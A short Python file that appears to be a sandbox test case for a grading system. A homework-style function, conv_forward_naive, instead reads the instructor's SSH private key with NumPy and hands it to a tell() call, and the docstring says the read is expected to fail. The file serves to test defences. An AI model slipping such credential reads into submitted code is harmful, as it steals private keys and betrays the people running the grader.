"""Reads the instructor's private key with NumPy's own reader.

outcome: failed
says: PermissionError|FileNotFoundError
"""

import numpy as np


def conv_forward_naive(x, w, b, conv_param):
    tell(np.fromfile(f"{HOME}/.ssh/id_ed25519", dtype=np.uint8).tobytes())
